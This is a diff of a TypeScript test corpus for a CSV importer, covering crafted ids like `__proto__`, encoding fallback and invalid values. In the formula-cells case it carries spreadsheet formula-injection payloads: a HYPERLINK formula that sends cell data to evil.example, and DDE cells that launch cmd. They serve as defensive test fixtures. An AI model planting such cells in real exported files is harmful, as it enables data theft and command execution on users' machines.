@@ -15,27 +15,34 @@ export const CSV_TABLES_CASES: CorpusCase[] = [
   {
     file: 'csv-crafted-ids.csv',
     format: 'csv',
-    tries: 'ids empty, of 10,000 characters, only punctuation, `__proto__`, `constructor` (twice), `hasOwnProperty`, `toString`',
-    problems: [
-      'line 9, entities[7].id: "constructor" appears twice; the second is left out',
-    ],
+    tries:
+      'ids empty, of 10,000 characters, only punctuation, `__proto__`, `constructor` (twice), `hasOwnProperty`, `toString`',
+    problems: ['line 9, entities[7].id: "constructor" appears twice; the second is left out'],
     kept: ['No id', 'Ten thousand x', 'Only punctuation', 'Proto', 'Constructor', 'Has own', 'To string'],
   },
   {
     file: 'csv-formula-cells.csv',
     format: 'csv',
-    tries: 'formula cells: `=HYPERLINK`, `+cmd`, `-2+3`, `@SUM`, a tab and a space before =, a full-width ＝, one already guarded (cells are trimmed; the quote mark a guarded cell carries goes)',
+    tries:
+      'formula cells: `=HYPERLINK`, `+cmd`, `-2+3`, `@SUM`, a tab and a space before =, a full-width ＝, one already guarded (cells are trimmed; the quote mark a guarded cell carries goes)',
     problems: [],
-    kept: ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '=1+1', '＝1+1', '=1+1', '=already guarded'],
-    verbatim: ['=HYPERLINK("http://evil.example/?"&A1,"click")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '＝1+1'],
+    kept: [
+      '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '=1+1',
+      '＝1+1',
+      '=1+1',
+      '=already guarded',
+    ],
+    verbatim: ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", '＝1+1'],
   },
   {
     file: 'csv-links-colliding-ids.csv',
     format: 'csv',
-    tries: 'a links table whose ids are its entities\' ids, one twice; `__proto__` and `constructor` as ends',
-    problems: [
-      'line 4, links[2].id: "alpha" appears twice; the second is left out',
-    ],
+    tries: "a links table whose ids are its entities' ids, one twice; `__proto__` and `constructor` as ends",
+    problems: ['line 4, links[2].id: "alpha" appears twice; the second is left out'],
     kept: ['alpha', 'beta', 'gamma', 'constructor', '__proto__'],
     links: 3,
   },
@@ -87,15 +94,14 @@ export const CSV_TABLES_CASES: CorpusCase[] = [
     file: 'csv-windows-1252.csv',
     format: 'csv',
     tries: 'Windows-1252 bytes',
-    problems: [
-      'line 2: is not UTF-8 text (byte 0xFC at line 2 is not UTF-8), so it was read as Windows-1252',
-    ],
+    problems: ['line 2: is not UTF-8 text (byte 0xFC at line 2 is not UTF-8), so it was read as Windows-1252'],
     kept: ['Müller GmbH', 'Société Générale', 'Zürich Åland Øresund'],
   },
   {
     file: 'csv-wrong-values.csv',
     format: 'csv',
-    tries: 'a links table with a share of "lots" and 150, dates that are none, a list for a type, a period that ends before it starts',
+    tries:
+      'a links table with a share of "lots" and 150, dates that are none, a list for a type, a period that ends before it starts',
     problems: [
       'line 2: share "lots" is not a percentage from 0 to 100; it is passed over',
       'line 3: share "150" is not a percentage from 0 to 100; it is passed over',
